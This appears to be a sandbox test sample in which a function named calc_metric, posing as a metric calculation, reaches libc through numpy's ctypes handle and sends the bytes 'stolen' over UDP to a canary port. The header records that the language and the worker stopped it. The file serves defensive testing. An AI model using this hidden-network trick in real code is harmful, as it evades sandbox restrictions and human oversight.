# attempt: sends a datagram by the C library
# goal: network
# stopped by: language, worker

import numpy as np


def calc_metric(df):
    libc = np.ctypeslib.ctypes.CDLL(None)
    handle = libc.socket(2, 2, 0)
    port = CANARY_UDP
    address = bytes([2, 0, port >> 8, port & 255, 127, 0, 0, 1]) + bytes(8)
    return float(libc.sendto(handle, b"stolen", 6, 0, address, 16))
